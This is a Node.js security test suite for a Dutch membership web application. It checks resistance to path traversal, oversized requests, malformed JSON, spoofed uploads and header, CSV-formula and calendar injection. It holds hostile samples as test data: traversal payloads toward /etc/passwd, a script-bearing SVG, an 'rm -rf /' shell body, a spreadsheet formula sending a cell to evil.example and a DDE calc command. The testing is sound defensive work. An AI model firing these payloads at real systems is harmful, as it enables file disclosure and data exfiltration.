// Hostile input (issue "Evidence", item 3): every way out of the web root we know of (encoded,
// double-encoded and overlong dots, backslashes, NUL bytes, absolute paths and targets, symlinks
// to files and directories outside the root) never serves a byte from outside it; uploads that are
// too large, empty, lie about their type or carry path separators, CR/LF or NUL in their name are
// refused or cleaned, and the document saved before stays intact; JSON that is too deep, too large
// or not UTF-8, and over-long targets and headers get a 4xx, and the server keeps answering.
// Runs on SQLite, and on PostgreSQL in api_tests_pg.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, loggedIn, USERS, raw } from './server.mjs';
import { tinyPdf, PNG, ELF, upload } from './files.mjs';

const SECRET = 'GEHEIM-BUITEN-DE-WEBROOT-7f3a';
let server;
let outer;
let webRoot;
const c = {};

before(async () => {
  // <outer>/geheim.txt and <outer>/web-extra/geheim.txt lie beside the root <outer>/web, and
  // <outer>/web has symlinks to them; /etc/passwd is the classic target.
  outer = mkdtempSync(join(tmpdir(), 'sterk-hostile-'));
  webRoot = join(outer, 'web');
  mkdirSync(join(webRoot, 'assets'), { recursive: true });
  mkdirSync(join(outer, 'web-extra'));
  writeFileSync(join(outer, 'geheim.txt'), SECRET);
  writeFileSync(join(outer, 'web-extra', 'geheim.txt'), SECRET);
  writeFileSync(join(webRoot, 'index.html'), '<!doctype html><title>Sterklabel</title><div id="root"></div>');
  writeFileSync(join(webRoot, 'assets', 'app.js'), 'console.log("binnen");');
  symlinkSync(join(outer, 'geheim.txt'), join(webRoot, 'link.txt'));
  symlinkSync(join(outer, 'web-extra'), join(webRoot, 'assets', 'map'));
  symlinkSync('/etc/passwd', join(webRoot, 'passwd.txt'));
  symlinkSync(join(webRoot, 'assets', 'app.js'), join(webRoot, 'binnen.js'));
  server = await startServer({ args: ['--web-root', webRoot] });
  c.member = await loggedIn(server.url, USERS.member);
  c.secretariat = await loggedIn(server.url, USERS.secretariat);
});

after(async () => {
  assert.equal((await server.stop()).code, 0);
  rmSync(outer, { recursive: true, force: true });
});

function get(target) {
  return raw(server.port, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
}

test('nothing outside the web root is ever served, however the path is written', async () => {
  const up = ['..', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '%252e%252e', '%c0%ae%c0%ae', '%uff0e%uff0e', '....', '..%00'];
  const sep = ['/', '%2f', '%2F', '%5c', '\\', '%252f', '%c0%af', '//'];
  const targets = [];
  for (const dots of up) {
    for (const slash of sep) {
      for (const file of ['etc/passwd', `${outer.slice(1)}/geheim.txt`.replaceAll('/', slash === '\\' ? '\\' : '/'), 'geheim.txt',
        'web-extra/geheim.txt']) {
        targets.push(`/${dots}${slash}${dots}${slash}${dots}${slash}${dots}${slash}${dots}${slash}${dots}${slash}${file}`);
        targets.push(`/assets/${dots}${slash}${dots}${slash}geheim.txt`);
      }
    }
  }
  targets.push(
    '/etc/passwd', '//etc/passwd', '///etc/passwd', '/%2fetc%2fpasswd', `/${outer}/geheim.txt`, `//${outer.slice(1)}/geheim.txt`,
    `/%2f${outer.slice(1).replaceAll('/', '%2f')}%2fgeheim.txt`, '/index.html%00/../../geheim.txt', '/%00', '/geheim.txt%00.js',
    '/link.txt', '/passwd.txt', '/assets/map/geheim.txt', '/assets/map/../../geheim.txt', '/assets%2fmap%2fgeheim.txt',
    '/.%2e/geheim.txt', '/C:%5cWindows%5cwin.ini', '/..;/geheim.txt', '/%2e%2e;/geheim.txt',
    // Request targets that are not origin-form.
    'http://x/../geheim.txt', 'http://x/%2e%2e/%2e%2e/etc/passwd', '../geheim.txt', '*', `file://${outer}/geheim.txt`,
  );
  const leaks = [];
  const statuses = new Map();
  for (const target of targets) {
    const answer = await get(target);
    const status = answer.slice(9, 12);
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    if (answer.includes(SECRET) || answer.includes('root:x:0:0')) leaks.push(target);
    else if (!/^HTTP\/1\.1 (200|400|404)/.test(answer)) leaks.push(`${target}: ${answer.slice(0, 40)}`);
    // A 200 is the app's own index.html (client-side routing), never another file.
    else if (answer.startsWith('HTTP/1.1 200') && !answer.includes('<title>Sterklabel</title>')) leaks.push(`${target}: ${answer.slice(0, 200)}`);
  }
  assert.deepEqual(leaks, [], `statuses ${JSON.stringify([...statuses])}`);
  assert.ok(targets.length > 300, `${targets.length} targets`);
  // Files inside the root are still served, a symlink inside the root to a file inside it too.
  assert.match(await get('/assets/app.js'), /^HTTP\/1\.1 200[^]*binnen/);
  assert.match(await get('/binnen.js'), /^HTTP\/1\.1 200[^]*binnen/);
  assert.match(await get('/assets/%61pp.js'), /^HTTP\/1\.1 200[^]*binnen/);
});

test('an over-long request target gets a 4xx and the connection closes; the server keeps answering', async () => {
  for (const target of [`/${'a'.repeat(64 * 1024)}`, `/api/v1/register?q=${'b'.repeat(64 * 1024)}`, `/${'../'.repeat(20000)}etc/passwd`]) {
    const started = Date.now();
    const answer = await get(target);
    assert.match(answer, /^HTTP\/1\.1 4\d\d /, answer.slice(0, 80));
    assert.ok(!answer.includes('root:x:0:0'));
    assert.ok(Date.now() - started < 4000, `closed after ${Date.now() - started} ms`);
  }
  // A search at its limit is answered; one over it is refused naming the field.
  assert.equal((await fetch(`${server.url}/api/v1/register?q=${'c'.repeat(200)}`)).status, 200);
  const long = await fetch(`${server.url}/api/v1/register?q=${'c'.repeat(201)}`);
  assert.equal(long.status, 400);
  assert.equal((await long.json()).field, 'q');
});

async function sendJson(body, path = '/api/v1/session', client = null) {
  const headers = { 'content-type': 'application/json' };
  if (client) {
    headers.cookie = `sterk_session=${client.cookie}`;
    headers['x-csrf-token'] = client.csrf;
  }
  const res = await fetch(server.url + path, { method: client ? 'PUT' : 'POST', headers, body });
  const text = await res.text();
  return { status: res.status, text, data: text.startsWith('{') ? JSON.parse(text) : null };
}

test('hostile JSON: deep nesting, huge numbers, bad UTF-8, lone surrogates, NUL → 400, never a crash', async () => {
  const cases = [
    ['['.repeat(200000), 'deep array'],
    [`{"email":${'['.repeat(100000)}${']'.repeat(100000)},"password":"x"}`, 'deep value'],
    ['{"a":'.repeat(100000), 'deep object'],
    ['{"email":1e999999,"password":"x"}', 'huge number'],
    ['{"email":"a@b.example","password":"x","password":"y"}', 'duplicate key'],
    [Buffer.concat([Buffer.from('{"email":"'), Buffer.from([0xc0, 0xae, 0xff]), Buffer.from('","password":"x"}')]), 'bad UTF-8'],
    ['{"email":"\\ud800","password":"x"}', 'lone surrogate'],
    ['{"email":"a\\u0000@b.example","password":"x"}', 'NUL escape'],
    [Buffer.from('{"email":"a\u0000b","password":"x"}'), 'raw NUL'],
    ['\ufeff{"email":"a@b.example","password":"x"}', 'BOM'],
  ];
  for (const [body, what] of cases) {
    const res = await sendJson(body);
    assert.ok([400, 401].includes(res.status), `${what}: ${res.status} ${res.text.slice(0, 200)}`);
    assert.equal(typeof res.data?.message, 'string', what);
  }
  // Ids that do not fit: 400 or 404, never 500.
  for (const id of ['99999999999999999999999', '-1', '1e3', '0x10', '%00', '1%0d%0aX-Kop:%20ja']) {
    const res = await c.secretariat.get(`/api/v1/organisations/${id}`);
    assert.ok([400, 404].includes(res.status), `${id}: ${res.status}`);
    assert.equal(res.headers.get('x-kop'), null);
  }
  assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
});

// Found by tests/fuzz: these two routes parsed their bodies themselves, without the nesting limit,
// and 800 kB of '[' in a verdict ended the server (SIGSEGV) for any logged-in member.
test('deep nesting in a trajectory event or a new trajectory (under the 1 MiB limit) → 400, the server stays up', async () => {
  const deep = `${'['.repeat(400000)}${']'.repeat(400000)}`;
  const list = (await c.member.get('/api/v1/trajectories')).data.trajectories;
  const bodies = [
    [`/api/v1/trajectories/${list[0].id}/events`, `{"on":"2026-01-01","event":"findings_final","verdicts":{"VM1":${deep}}}`],
    ['/api/v1/trajectories', `{"kind":"initial","framework":${deep}}`],
  ];
  for (const [path, body] of bodies) {
    const res = await c.member.request('POST', path, { body, headers: { 'content-type': 'application/json' } });
    assert.equal(res.status, 400, `${path}: ${res.status} ${res.text.slice(0, 200)}`);
    assert.match(res.data.message, /geen geldige JSON/);
  }
  assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
  assert.equal((await c.member.get('/api/v1/me')).status, 200, 'the session survived: the server did not restart');
});

async function download(client, id) {
  const res = await fetch(`${server.url}/api/v1/documents/${id}`, { headers: { cookie: `sterk_session=${client.cookie}` } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

test('uploads: too large (every way of sending it) → 413 naming the file in Dutch; the saved document stays', async () => {
  const kept = await upload(c.member, 'bewaard.pdf', tinyPdf(), 'application/pdf');
  assert.equal(kept.status, 201, kept.text);
  const limit = 10 * 1024 * 1024;
  const big = Buffer.concat([tinyPdf(), Buffer.alloc(limit + 1 - tinyPdf().length, 0x20)]);
  const res = await upload(c.member, 'bewaard.pdf', big, 'application/pdf');
  assert.equal(res.status, 413, res.text);
  assert.equal(res.data.field, 'file');
  assert.match(res.data.message, /^Het bestand is te groot\. .*10 MB/);
  // A Content-Length that promises too much is refused before the body; chunked is stopped while read.
  const head = `POST /api/v1/documents?filename=x.pdf HTTP/1.1\r\nHost: x\r\nCookie: sterk_session=${c.member.cookie}\r\n`
    + `X-CSRF-Token: ${c.member.csrf}\r\nContent-Type: application/pdf\r\n`;
  const promised = await raw(server.port, `${head}Content-Length: ${limit * 100}\r\n\r\n%PDF-1.4\n`);
  assert.match(promised, /^HTTP\/1\.1 413 /);
  const chunk = Buffer.alloc(1024 * 1024, 0x20).toString('latin1');
  let chunked = `${head}Transfer-Encoding: chunked\r\n\r\n`;
  for (let i = 0; i < 11; i += 1) chunked += `${chunk.length.toString(16)}\r\n${chunk}\r\n`;
  assert.match(await raw(server.port, `${chunked}0\r\n\r\n`), /^HTTP\/1\.1 413 /);
  const back = await download(c.member, kept.data.id);
  assert.equal(back.status, 200);
  assert.equal(createHash('sha256').update(back.bytes).digest('hex'), kept.data.sha256);
  assert.equal((await c.member.get(`/api/v1/documents/${kept.data.id}/meta`)).data.filename, 'bewaard.pdf');
});

test('uploads: the type comes from the bytes, whatever name and Content-Type claim', async () => {
  const pngAsPdf = await upload(c.member, 'scan.pdf', PNG, 'application/pdf');
  assert.equal(pngAsPdf.status, 201, pngAsPdf.text);
  assert.equal(pngAsPdf.data.media_type, 'image/png');
  const pdfAsText = await upload(c.member, 'notitie.txt', tinyPdf(), 'text/plain');
  assert.equal(pdfAsText.data.media_type, 'application/pdf');
  for (const [bytes, type] of [[ELF, 'application/pdf'], [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/png'],
    [Buffer.from('<html><script>alert(1)</script></html>'), 'text/plain'], [Buffer.from('#!/bin/sh\nrm -rf /\n'), 'text/plain'],
    [Buffer.from('PK\x03\x04 geen echt archief'), 'application/zip']]) {
    const res = await upload(c.member, 'document.txt', bytes, type);
    assert.equal(res.status, 400, `${type}: ${res.text}`);
    assert.equal(res.data.field, 'file');
    assert.match(res.data.message, /^Dit bestandstype wordt niet aanvaard/);
  }
  const empty = await upload(c.member, 'leeg.pdf', Buffer.alloc(0), 'application/pdf');
  assert.equal(empty.status, 400);
  assert.equal(empty.data.field, 'file');
  assert.equal(empty.data.message, 'Het bestand is leeg.');
});

test('uploads: path separators in the name keep only the base name; CR/LF, NUL and odd names are refused', async () => {
  for (const [name, kept] of [['../../etc/passwd.txt', 'passwd.txt'], ['..\\..\\Windows\\win.ini.txt', 'win.ini.txt'],
    ['/etc/cron.d/job.txt', 'job.txt'], ['C:\\Users\\Jan\\Bureaublad\\plan.txt', 'plan.txt'], ['map/../plan.txt', 'plan.txt']]) {
    const res = await upload(c.member, name, Buffer.from('Gewone tekst.\n'), 'text/plain');
    assert.equal(res.status, 201, `${name}: ${res.text}`);
    assert.equal(res.data.filename, kept, name);
    const file = await download(c.member, res.data.id);
    assert.ok(file.headers.get('content-disposition').startsWith(`attachment; filename="${kept}"`), name);
  }
  for (const name of ['plan.txt\r\nX-Ingevoegd: ja', 'plan\n.txt', '..', '../..', '/', '   ', 'map/',
    `${'a'.repeat(300)}.txt`, 'plan\u007f.txt']) {
    const res = await upload(c.member, name, Buffer.from('Gewone tekst.\n'), 'text/plain');
    assert.equal(res.status, 400, `${JSON.stringify(name)}: ${res.text}`);
    assert.equal(res.data.field, 'filename', JSON.stringify(name));
    assert.match(res.data.message, /bestand/);
    assert.equal(res.headers.get('x-ingevoegd'), null);
  }
  // A NUL byte anywhere in the target refuses the whole request (no field: it was never read).
  const nul = await upload(c.member, 'plan\u0000.pdf', tinyPdf(), 'application/pdf');
  assert.equal(nul.status, 400, nul.text);
  assert.equal(nul.data.code, 'invalid_argument');
  // Not valid UTF-8, sent raw in the query.
  const bad = await raw(server.port, `POST /api/v1/documents?filename=%ff%fe.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n`
    + `Cookie: sterk_session=${c.member.cookie}\r\nX-CSRF-Token: ${c.member.csrf}\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nhallo`);
  assert.match(bad, /^HTTP\/1\.1 400 [^]*"field":"filename"/);
  // Twice the name: one of them, never both glued together.
  const twice = await c.member.request('POST', '/api/v1/documents?filename=a.txt&filename=b.txt',
    { body: Buffer.from('tekst\n'), headers: { 'content-type': 'text/plain' } });
  assert.ok(twice.status === 400 || ['a.txt', 'b.txt'].includes(twice.data.filename), twice.text);
  assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
});

// parseCsv: the ';'-separated, quoted CSV of the exports, as a spreadsheet reads it.
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i += 1) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') { cell += '"'; i += 1; } else if (ch === '"') quoted = false; else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';') { row.push(cell); cell = ''; } else if (ch === '\r' && body[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 1; } else cell += ch;
  }
  return rows;
}

test('CSV downloads: a value a user typed never starts a formula in the spreadsheet (= + - @)', async () => {
  // A member names a file like a formula; the secretariat downloads the audit log, which quotes it.
  // (No '/' or '\\' in it: those would cut it down to its base name.)
  const formula = '=HYPERLINK("https:"&"evil.example?d="&A1;"Klik hier").txt';
  const res = await upload(c.member, formula, Buffer.from('Gewone tekst.\n'), 'text/plain');
  assert.equal(res.status, 201, res.text);
  // The secretariat types a member whose name and contact start like formulas.
  const member = await c.secretariat.post('/api/v1/members', { name: '@SUM(1+1)*cmd|" /C calc"!A0', lidnummer: 'SWN-7777',
    kvk: '12345678', town: '-2+3', contact_person: '+31 20 123 4567', member_from: '2020-01-01' });
  assert.equal(member.status, 201, member.text);
  const starts = /^[=+\-@\t\r]/;
  const log = await c.secretariat.get('/api/v1/audit-log.csv?action=document.upload');
  assert.equal(log.status, 200);
  const members = await c.secretariat.get('/api/v1/members.csv');
  assert.equal(members.status, 200);
  const offenders = [...parseCsv(log.text), ...parseCsv(members.text)].flat().filter((cell) => starts.test(cell));
  assert.deepEqual(offenders, []);
  // The value itself is all there, behind the apostrophe that tells the spreadsheet it is text.
  assert.ok(parseCsv(log.text).flat().some((cell) => cell.startsWith(`'${formula}`)), log.text.slice(0, 400));
  assert.ok(parseCsv(members.text).some((row) => row[0] === '\'@SUM(1+1)*cmd|" /C calc"!A0'), members.text.slice(0, 400));
  // The JSON keeps the value as typed.
  assert.equal(res.data.filename, formula);
});

test('the calendar feed: CR/LF and iCalendar lines in a member\'s name stay inside one escaped property', async () => {
  const ciAdmin = await loggedIn(server.url, USERS.ciAdmin);
  const orgs = (await c.secretariat.get('/api/v1/organisations')).data.organisations;
  const target = orgs.find((o) => o.name === 'Buurtwerk Noord');
  assert.ok(target, 'the demo member with a deadline of the CI');
  const { id, active, inactive_reason: _, ...stored } = (await c.secretariat.get(`/api/v1/members/${target.id}`)).data;
  const fields = Object.fromEntries(Object.entries(stored).filter(([, v]) => v !== null));
  const name = 'Noord\r\nATTENDEE:mailto:indringer@evil.example\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Nep\nX-Ingevoegd:ja';
  assert.equal((await c.secretariat.put(`/api/v1/members/${target.id}`, { ...fields, name })).status, 200);
  const feed = await ciAdmin.post('/api/v1/me/calendar');
  assert.equal(feed.status, 200, feed.text);
  const text = await (await fetch(`${server.url}${new URL(feed.data.url).pathname}`)).text();
  const lines = text.split('\r\n');
  assert.ok(lines.some((l) => l.startsWith('SUMMARY:') && l.includes('Noord\\nATTENDEE')), text.slice(0, 800));
  assert.deepEqual(lines.filter((l) => /^(ATTENDEE|SUMMARY:Nep|X-Ingevoegd)/.test(l)), []);
  assert.equal(lines.filter((l) => l === 'BEGIN:VEVENT').length, lines.filter((l) => l === 'END:VEVENT').length);
  assert.ok(!/[^\r]\n/.test(text), 'every line ends in CRLF');
});
